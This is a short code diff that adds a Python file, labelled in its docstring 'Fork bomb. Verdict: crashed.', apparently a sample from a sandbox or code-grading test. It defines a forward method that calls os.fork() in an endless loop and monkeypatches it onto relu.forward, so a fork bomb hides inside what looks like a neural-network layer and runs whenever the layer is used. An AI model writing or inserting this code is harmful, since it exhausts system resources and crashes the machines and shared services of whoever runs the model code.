@@ -1,0 +1,11 @@
+"""Fork bomb. Verdict: crashed."""
+
+import os
+
+
+def forward(self, X):
+    while True:
+        os.fork()
+
+
+relu.forward = forward
